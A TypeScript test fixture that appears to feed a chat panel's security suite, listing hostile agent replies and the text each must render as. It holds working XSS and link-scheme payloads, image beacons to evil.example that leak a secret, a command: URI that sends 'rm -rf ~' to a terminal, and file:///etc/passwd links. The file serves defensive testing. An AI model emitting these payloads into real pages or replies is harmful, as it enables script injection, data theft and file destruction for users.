/**
 * Replies a hostile or compromised agent could send, for the panel's security suite. Every
 * attempt at running code sets `window.__pwned` (or calls `alert`, which the suite traps), so a
 * single canary tells whether anything ran.
 */

/** One hostile reply. */
export interface HostileReply {
  /** What the reply tries. */
  readonly name: string;
  /** The reply's markdown, exactly as the agent would stream it. */
  readonly text: string;
  /** Text the rendered reply must still show (raw markup is shown as text, not dropped). */
  readonly visible: string;
}

const KB100 = 100_000;

/** A reply that must show exactly as written: its markup is text. */
const literal = (name: string, text: string): HostileReply => ({ name, text, visible: text });

/** A table of `rows` rows and `cols` columns, each cell naming its position. */
function table(rows: number, cols: number): string {
  const line = (cells: string[]): string => `| ${cells.join(' | ')} |`;
  const head = Array.from({ length: cols }, (_, c) => `h${c}`);
  const out = [line(head), line(head.map((_, c) => (c % 3 === 0 ? ':--' : c % 3 === 1 ? ':-:' : '--:')))];
  for (let r = 0; r < rows; r++) out.push(line(head.map((_, c) => `r${r}c${c}`)));
  return out.join('\n');
}

/** The corpus: scripts, handlers, URL schemes, SVG/MathML, embeds, CSS, entities, size and Unicode. */
export const hostileReplies: readonly HostileReply[] = [
  // Script elements and event handlers: raw HTML must stay text.
  literal('script element', '<script>window.__pwned = 1</script>'),
  literal('script inside a paragraph', 'Before <script>__pwned=1</script> after'),
  literal('remote script', '<script src="https://evil.example/x.js"></script>'),
  literal('img onerror', '<img src=x onerror="window.__pwned=1">'),
  literal('body onload', '<body onload=__pwned=1>body text'),
  literal('full-page div onmouseover', '<div onmouseover="__pwned=1" style="position:fixed;inset:0">cover</div>'),
  literal('autofocus onfocus', '<input autofocus onfocus=__pwned=1> <textarea autofocus onfocus=alert(1)>'),
  literal('details ontoggle', '<details open ontoggle=__pwned=1><summary>open me</summary></details>'),
  literal('video source onerror', '<video><source onerror="__pwned=1"></video><audio src=x onerror=__pwned=1>'),
  { name: 'HTML block between paragraphs', text: 'Intro\n\n<div>\n<img src=x onerror=__pwned=1>\n</div>\n\nOutro', visible: '<img src=x onerror=__pwned=1>' },
  { name: 'handler smuggled through a link title', text: '[hover me](https://ok.example "x\\" onmouseover=\\"__pwned=1")', visible: 'hover me' },
  { name: 'handler smuggled through a fence info string', text: '```js" onclick="__pwned=1\nconsole.log(1)\n```', visible: 'console.log(1)' },
  literal('raw anchor with a javascript: href', '<a href="javascript:__pwned=1">raw anchor</a>'),

  // Link schemes: only http(s) and mailto may become links.
  literal('javascript: link', '[click](javascript:__pwned=1)'),
  literal('mixed-case javascript: link', '[click](JaVaScRiPt:__pwned=1)'),
  literal('javascript: link in angle brackets with spaces', '[click](< javascript:__pwned=1 >)'),
  { name: 'javascript: with a tab, a newline and an entity tab in the scheme', text: '[a](java\tscript:__pwned=1) [b](java&#9;script:__pwned=1) [c](java&#10;script:__pwned=1)', visible: '[a](java\tscript:__pwned=1) [b](java\tscript:__pwned=1) [c](java\nscript:__pwned=1)' },
  literal('javascript: with percent-encoded whitespace', '[click](java%09script:__pwned=1) [x](%20javascript:__pwned=1)'),
  { name: 'decimal-entity javascript: link', text: '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__pwned=1)', visible: '[click](javascript:__pwned=1)' },
  { name: 'hex-entity and named-colon javascript: link', text: '[a](&#x6A;avascript&colon;__pwned=1) [b](javascript&#x3A;__pwned=1)', visible: '[a](javascript:__pwned=1) [b](javascript:__pwned=1)' },
  { name: 'control characters before the scheme', text: '[a](\u0001javascript:__pwned=1) [b](\u0000javascript:__pwned=1) [c](\u001fjavascript:__pwned=1)', visible: '[b](\ufffdjavascript:__pwned=1) [c](\u001fjavascript:__pwned=1)' },
  literal('zero-width characters inside the scheme', '[click](java\u200bscript:__pwned=1) [x](\ufeffjavascript:__pwned=1)'),
  literal('data: links', '[html](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=) [svg](DATA:image/svg+xml,<svg/onload=__pwned=1>)'),
  literal('vbscript: link', '[click](vbscript:msgbox(1)) [x](VBScript:__pwned=1)'),
  literal('file:, vscode: and relative links', '[f](file:///etc/passwd) [v](vscode://file/etc/passwd) [r](/etc/passwd) [p](//evil.example/x)'),
  literal('command: URI link', '[reload](command:workbench.action.reloadWindow)'),
  literal('command: URI with arguments', '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)'),
  literal('autolinks with hostile schemes', '<javascript:__pwned=1> <command:workbench.action.reloadWindow> <data:text/html,x> <vbscript:x>'),
  literal('bare hostile URLs (linkify)', 'javascript:__pwned=1 vbscript:x data:text/html,x command:workbench.action.reloadWindow file:///etc/passwd'),
  { name: 'reference-style javascript: link', text: '[click][evil]\n\n[evil]: javascript:__pwned=1', visible: '[evil]: javascript:__pwned=1' },
  { name: 'reference-style link defined after its use', text: 'See [the docs][d].\n\nMore text.\n\n[d]: https://ok.example/docs "Docs"', visible: 'More text.' },
  { name: 'link whose https: prefix hides another scheme', text: '[click](https:javascript:__pwned=1) [y](http:&#47;&#47;ok.example)', visible: 'click' },
  { name: 'link titles with quotes and markup', text: '[t](https://ok.example "a\\"b\'c<img src=x onerror=__pwned=1>") [u](https://ok.example \'x" onclick="__pwned=1\')', visible: 't' },
  { name: 'mailto with a body', text: '[mail](mailto:a@example.com?subject=hi&body=%3Cscript%3E) and a@example.com', visible: 'mail' },

  // Images must never load: they become links to the image, named by their alt text.
  { name: 'image beacon', text: '![pixel](https://evil.example/leak.png?data=SECRET)', visible: 'pixel' },
  { name: 'reference-style image beacon', text: '![ref pixel][img]\n\n[img]: https://evil.example/leak.png?data=SECRET', visible: 'ref pixel' },
  literal('image with javascript: and data: sources', '![a](javascript:__pwned=1) ![b](data:image/svg+xml,<svg onload=__pwned=1>)'),
  { name: 'image inside a link', text: '[![badge](https://evil.example/badge.svg)](https://ok.example/)', visible: 'badge' },
  { name: 'image whose alt text is markup', text: '![<img src=x onerror=__pwned=1>](https://evil.example/i.png)', visible: '<img src=x onerror=__pwned=1>' },

  // SVG and MathML namespace tricks.
  literal('svg onload', '<svg onload=__pwned=1>'),
  literal('svg script', '<svg><script>__pwned=1</script></svg>'),
  literal('svg animate on href', '<svg><a><animate attributeName=href values=javascript:__pwned=1 /><text x=20 y=20>tap</text></a></svg>'),
  literal('svg foreignObject iframe', '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>'),
  literal('MathML mglyph/style mutation', '<math><mtext><table><mglyph><style><img src=x onerror=__pwned=1>'),
  literal('MathML href', '<math href="javascript:__pwned=1"><mi>tap</mi></math>'),
  literal('noscript mutation', '<noscript><p title="</noscript><img src=x onerror=__pwned=1>">'),
  literal('declarative shadow root', '<template shadowrootmode="open"><img src=x onerror=__pwned=1></template>'),

  // Embedded content and navigation.
  literal('iframe', '<iframe src="javascript:parent.__pwned=1"></iframe> <iframe srcdoc="<script>parent.__pwned=1</script>">'),
  literal('object and embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.svg">'),
  literal('form with a javascript: action', '<form action="https://evil.example"><button formaction="javascript:__pwned=1">go</button></form>'),
  literal('meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:__pwned=1">'),
  { name: 'base href', text: '<base href="https://evil.example/">\n\n[rel](docs)', visible: '<base' },
  literal('link preload and stylesheet', '<link rel=stylesheet href=https://evil.example/x.css><link rel=preload href=https://evil.example/p as=image>'),

  // CSS injection.
  literal('style element with url()', '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/bg)}</style>'),
  literal('style attribute with url()', '<p style="background:url(https://evil.example/p)">styled</p>'),
  { name: 'table alignment is the only styling a reply gets', text: '| a | b |\n|:-|-:|\n| <b style="x">1</b> | 2 |', visible: '<b style="x">1</b>' },

  // Entities and code contexts: decoded entities are text, code is text.
  { name: 'entity-encoded script', text: '&lt;script&gt;__pwned=1&lt;/script&gt;', visible: '<script>__pwned=1</script>' },
  { name: 'numeric-entity img', text: '&#60;img src=x onerror=__pwned=1&#62; &#x3C;svg onload=__pwned=1&#x3E;', visible: '<img src=x onerror=__pwned=1>' },
  { name: 'double-encoded entities', text: '&amp;lt;script&amp;gt;', visible: '&lt;script&gt;' },
  { name: 'markup in code spans and fences', text: '`<img src=x onerror=__pwned=1>`\n\n```html\n<script>__pwned=1</script>\n```', visible: '<script>__pwned=1</script>' },
  { name: 'unclosed fence full of markup', text: '```\n<svg onload=__pwned=1>\n[x](javascript:__pwned=1)', visible: '<svg onload=__pwned=1>' },

  // Size: very long lines, deep nesting, huge tables. Rendering must finish, the panel must respond.
  // Repeated letters that kern with each other are what made Chromium's line breaking quadratic.
  { name: '100 KB line without spaces', text: `START${'A'.repeat(KB100)}END`, visible: 'AAAAEND' },
  { name: '100 KB URL', text: `https://ok.example/${'a'.repeat(KB100)} tail`, visible: ' tail' },
  { name: '100 KB word in a link, a heading, a quote and a table cell', text: `# H${'h'.repeat(KB100 / 5)}\n\n> Q${'q'.repeat(KB100 / 5)}\n\n[L${'l'.repeat(KB100 / 5)}](https://ok.example/)\n\n| T${'t'.repeat(KB100 / 5)} |\n|-|\n| c |`, visible: 'lllllllll' },
  { name: '100 KB word of non-Latin letters, combining marks and emoji', text: `mixed ${'жё́🇺🇸👩‍💻'.repeat(KB100 / 10)} end`, visible: 'ё́🇺🇸👩‍💻жё́' },
  { name: '100 KB line of base64', text: `data ${Buffer.from('x'.repeat(75_000)).toString('base64')} end`, visible: ' end' },
  { name: '100 KB of angle brackets', text: `lt${'<'.repeat(KB100)}`, visible: '<<<<<<' },
  { name: '100 KB of link brackets', text: `brackets${'[x]('.repeat(KB100 / 4)}`, visible: '[x]([x](' },
  { name: '100 KB of emphasis markers', text: `emph ${'*_'.repeat(KB100 / 2)} done`, visible: ' done' },
  { name: '100 KB of backticks', text: `ticks ${'`'.repeat(KB100)}`, visible: 'ticks' },
  { name: 'list nested 1,000 levels', text: `Nested list follows\n\n${'- '.repeat(1000)}deep`, visible: 'Nested list follows' },
  // Indentation grows with depth, so 300 levels are already 90 KB.
  { name: 'indented list nested 300 levels', text: `Indented list follows\n\n${Array.from({ length: 300 }, (_, i) => `${' '.repeat(i * 2)}- item ${i}`).join('\n')}`, visible: 'item 0' },
  { name: 'blockquote nested 1,000 levels', text: `Quotes follow\n\n${'>'.repeat(1000)} deep`, visible: 'Quotes follow' },
  { name: 'links nested 1,000 levels', text: `${'['.repeat(1000)}x${'](https://ok.example)'.repeat(1000)}`, visible: 'x' },
  { name: 'huge table (2,000 rows)', text: `Table:\n\n${table(2000, 6)}`, visible: 'r1999c5' },
  { name: 'wide table (1,000 columns)', text: `Wide:\n\n${table(3, 1000)}`, visible: 'r2c999' },

  // Unicode that can mislead a reader.
  { name: 'bidi overrides', text: 'Open \u202Egnp.exe\u202C or [https://ok.example/\u202Emoc.live](https://ok.example/) \u2066isolated\u2069', visible: 'Open \u202Egnp.exe\u202C' },
  { name: 'zero-width characters', text: 'zero\u200bwidth\u200c\u200d\u2060\ufeff text [l\u200bink](https://ok.example/)', visible: 'zero\u200bwidth' },
  { name: 'NUL and other control characters', text: 'ctl\u0000\u0001\u0007\u001b[31m\u007f\u0085 text', visible: 'ctl' },
  { name: 'lone surrogates and noncharacters', text: 'sur\ud800rogate \udc00 \uffff \ufdd0 end', visible: 'end' },
];
